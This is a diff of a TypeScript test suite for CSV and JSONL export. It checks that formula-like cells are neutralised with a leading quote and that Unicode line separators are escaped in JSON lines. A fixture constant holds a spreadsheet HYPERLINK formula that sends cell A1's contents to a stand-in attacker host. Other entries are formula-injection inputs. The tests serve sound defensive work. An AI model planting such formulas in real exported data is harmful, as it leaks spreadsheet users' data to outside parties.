@@ -9,8 +9,8 @@ import { csvField } from '../../src/formats/export/tabular-export.ts';
 import { meta, run } from '../core/experiments/compared-runs.ts';
 
 const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
-// What Python's str.splitlines() splits on, besides \n and \r.
-const PYTHON_LINE_BREAKS = /[\n\r\v\f\u001c\u001d\u001e\u0085\u2028\u2029]/;
+// Every character a line reader may split on (Python's str.splitlines() splits on \n, \r, \v, \f, U+001C-U+001E, U+0085, U+2028 and U+2029).
+const LINE_BREAKING = /[\p{Cc}\p{Zl}\p{Zp}]/u;
 
 describe('CSV cells from data', () => {
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('%j gets a leading quote', (text) => {
@@ -42,8 +42,8 @@ describe('JSONL and line separators', () => {
 
   it('writes U+2028, U+2029 and U+0085 as escapes: one line per row for every line reader', () => {
     const text = toJsonLines(rows);
-    expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
-    expect(text.split(PYTHON_LINE_BREAKS).filter(Boolean)).toHaveLength(rows.length);
+    expect(text.split('\n')).toHaveLength(rows.length + 1);
+    expect(text.replaceAll('\n', '')).not.toMatch(LINE_BREAKING);
     expect(jsonLine('\u2028')).toBe('"\\u2028"');
   });
 
